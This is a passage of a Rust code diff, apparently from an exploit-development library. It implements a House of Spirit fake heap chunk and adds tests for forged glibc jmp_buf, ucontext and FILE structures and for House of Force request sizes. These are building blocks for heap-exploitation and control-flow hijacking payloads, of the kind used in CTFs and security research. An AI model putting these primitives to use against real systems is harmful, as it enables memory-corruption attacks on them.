+        let content = usize::try_from(self.size.saturating_sub(CHUNK_HEADER_LEN))?;
+        Ok([
+            WriteInteger::new_le(u64::MIN).into(),
+            WriteInteger::new_le(self.size).into(),
+            Fill::new(content, 0).into(),
+            WriteInteger::new_le(u64::MIN).into(),
+            WriteInteger::new_le(NEXT_CHUNK_SIZE).into(),
+        ])
+    }
+}
+
+impl Op for HouseOfSpirit {
+    #[cfg(feature = "std")]
+    #[inline]
+    fn write_to_io(&self, stream: &mut dyn io::Write) -> Result<usize> {
+        self.ops()?.write_to_io(stream)
+    }
+
+    #[inline]
+    fn write_to(&self, out: impl AsMut<[u8]>) -> Result<usize> {
+        self.ops()?.write_to(out)
+    }
+
+    #[inline]
+    fn size(&self) -> Option<usize> {
+        self.ops().ok()?.size()
+    }
+}
+
+/// Copies `value` at `offset` in `bytes`, if it fits.
+fn put(bytes: &mut [u8], offset: usize, value: &[u8]) {
+    if let Some(slot) = bytes.get_mut(offset..offset.saturating_add(value.len())) {
+        slot.copy_from_slice(value);
+    }
+}
+
+#[cfg(test)]
+#[allow(
+    clippy::assertions_on_result_states,
+    clippy::indexing_slicing,
+    clippy::panic_in_result_fn,
+    clippy::redundant_test_prefix,
+    clippy::separated_literal_suffix,
+    clippy::shadow_unrelated,
+    clippy::unseparated_literal_suffix,
+    clippy::unwrap_in_result,
+    clippy::unwrap_used
+)]
+mod tests {
+    use crate::glibc::{
+        HouseOfForce, HouseOfSpirit, IoFile, IoFileField, JmpBuf, JmpBufRegister, Ucontext,
+        UcontextRegister, Version, IO_FILE_PLUS_LEN, JMP_BUF_LEN, UCONTEXT_LEN,
+        UCONTEXT_LEN_PRE_2_28,
+    };
+    use crate::ops::Mangling;
+
+    use crate::prelude::*;
+
+    #[test]
+    fn test_jmp_buf() -> Result<()> {
+        let cookie = 0xdead_beef_cafe_f00d;
+        let mut jmp_buf = JmpBuf::new(cookie);
+        for (value, register) in (1..).zip(JmpBufRegister::ALL) {
+            jmp_buf = jmp_buf.with_register(register, value);
+        }
+        assert_eq!(jmp_buf.register(JmpBufRegister::R13), 4);
+
+        let mut buffer = [0xffu8; JMP_BUF_LEN];
+        assert_eq!(jmp_buf.write_to(&mut buffer)?, JMP_BUF_LEN);
+        assert_eq!(buffer[JmpBufRegister::Rbx.offset()], 1);
+        assert_eq!(buffer[JmpBufRegister::R15.offset()], 6);
+        let mangling = Mangling::PtrMangle { cookie };
+        for register in [
+            JmpBufRegister::Rbp,
+            JmpBufRegister::Rsp,
+            JmpBufRegister::Rip,
+        ] {
+            let offset = register.offset();
+            let saved = u64::from_le_bytes(buffer[offset..offset + 8].try_into().unwrap());
+            assert_eq!(mangling.demangle(saved), jmp_buf.register(register));
+        }
+        // `__mask_was_saved` and the signal mask.
+        assert!(buffer[0x40..].iter().all(|&byte| byte == 0));
+        assert!(jmp_buf.write_to([0u8; JMP_BUF_LEN - 1]).is_err());
+        Ok(())
+    }
+
+    #[test]
+    fn test_ucontext() -> Result<()> {
+        let context = Ucontext::new(Version::new(2, 31))
+            .with_register(UcontextRegister::Rdi, 0x40_4060)
+            .with_register(UcontextRegister::Rsp, 0x40_5800)
+            .with_register(UcontextRegister::Rip, 0x40_1136)
+            .with_fpregs(0x1000);
+        assert_eq!(context.size(), Some(UCONTEXT_LEN));
+        assert_eq!(UcontextRegister::Rdi.offset(), 0x68);
+        assert_eq!(UcontextRegister::Rsp.offset(), 0xa0);
+        assert_eq!(UcontextRegister::Rip.offset(), 0xa8);
+
+        let mut buffer = [0xffu8; UCONTEXT_LEN];
+        assert_eq!(context.write_to(&mut buffer)?, UCONTEXT_LEN);
+        assert_eq!(buffer[0x68..0x70], 0x40_4060_u64.to_le_bytes());
+        assert_eq!(buffer[0xa8..0xb0], 0x40_1136_u64.to_le_bytes());
+        assert_eq!(buffer[0xe0..0xe8], 0x1000_u64.to_le_bytes());
+        // `fcw` and `mxcsr` of `__fpregs_mem`.
+        assert_eq!(buffer[0x1a8..0x1aa], *b"\x7f\x03");
+        assert_eq!(buffer[0x1c0..0x1c4], *b"\x80\x1f\0\0");
+        assert!(buffer[..0x68].iter().all(|&byte| byte == 0));
+
+        let legacy = Ucontext::new(Version::new(2, 27));
+        assert_eq!(legacy.size(), Some(UCONTEXT_LEN_PRE_2_28));
+        assert_eq!(legacy.write_to(&mut buffer)?, UCONTEXT_LEN_PRE_2_28);
+        assert_eq!(legacy.version().minor(), 27);
+        Ok(())
+    }
+
+    #[test]
+    fn test_io_file() -> Result<()> {
+        let file = IoFile::new(Version::new(2, 35))
+            .with_field(IoFileField::Fileno, 0xffff_ffff)
+            .with_field(IoFileField::Chain, 0x40_52a0)
+            .with_field(IoFileField::WideData, 0x40_5300);
+        assert!(file.version().validates_vtables());
+        assert_eq!(file.field(IoFileField::Chain), 0x40_52a0);
+
+        let mut buffer = [0xffu8; IO_FILE_PLUS_LEN];
+        assert_eq!(file.write_to(&mut buffer)?, IO_FILE_PLUS_LEN);
+        assert_eq!(buffer[..8], *b"\0\0\xad\xfb\0\0\0\0");
+        assert_eq!(buffer[0x68..0x70], 0x40_52a0_u64.to_le_bytes());
+        assert_eq!(buffer[0x70..0x78], *b"\xff\xff\xff\xff\0\0\0\0");
+        assert_eq!(buffer[0xa0..0xa8], 0x40_5300_u64.to_le_bytes());
+        assert!(buffer[0xa8..].iter().all(|&byte| byte == 0));
+
+        // Fields do not overlap.
+        let mut end = 0;
+        for field in IoFileField::ALL {
+            assert!(field.offset() >= end);
+            end = field.offset() + field.width();
+        }
+        assert_eq!(end, IO_FILE_PLUS_LEN);
+
+        assert!(matches!(
+            file.with_field(IoFileField::Mode, 1 << 32)
+                .write_to(&mut buffer),
+            Err(Error::IntegerOverflow)
+        ));
+        Ok(())
+    }
+
+    #[test]
+    fn test_house_of_force() -> Result<()> {
+        let version = Version::new(2, 27);
+        // Forward, then backward, wrapping around.
+        let house = HouseOfForce::new(version, 0x60_3100, 0x60_4010);
+        assert_eq!(house.request_size()?, 0xf00 - 8);
+        let house = HouseOfForce::new(version, 0x60_3100, 0x60_1010);
+        assert_eq!(house.request_size()?, 0u64.wrapping_sub(0x2100 + 8));
+
+        assert!(matches!(
+            HouseOfForce::new(version, 0x60_3100, 0x60_1018).request_size(),
+            Err(Error::Misaligned {
+                value: 0x60_1018,
+                alignment: 0x10
+            })
+        ));
+        let patched = HouseOfForce::new(Version::new(2, 35), 0x60_3100, 0x60_1010);
+        assert!(matches!(
+            patched.write_to([0u8; 8]),
+            Err(Error::Unsupported(_))
+        ));
+        Ok(())
+    }
+
+    #[test]
+    fn test_house_of_spirit() -> Result<()> {
+        let house = HouseOfSpirit::new(Version::new(2, 31), 0x40_4040, 0x100);
+        assert!(house.version().has_tcache());
+        assert_eq!(house.size(), Some(0x110));
+
+        let mut buffer = [0xffu8; 0x110];
+        assert_eq!(house.write_to(&mut buffer)?, 0x110);
+        assert_eq!(buffer[..0x10], *b"\0\0\0\0\0\0\0\0\0\x01\0\0\0\0\0\0");
+        assert!(buffer[0x10..0x108].iter().all(|&byte| byte == 0));
+        assert_eq!(buffer[0x108], 0x21);
+
+        for house in [
+            HouseOfSpirit::new(Version::new(2, 31), 0x40_4048, 0x40),
+            HouseOfSpirit::new(Version::new(2, 31), 0x40_4040, 0x48),
+        ] {
+            assert!(matches!(
+                house.write_to(&mut buffer),
+                Err(Error::Misaligned { .. })
+            ));
+        }
+        for size in [0x10, 0x420] {
+            let house = HouseOfSpirit::new(Version::new(2, 31), 0x40_4040, size);
+            assert!(matches!(
+                house.write_to(&mut buffer),
+                Err(Error::Unsupported(_))
+            ));
+            assert_eq!(house.size(), None);
+        }
+        Ok(())
+    }
+}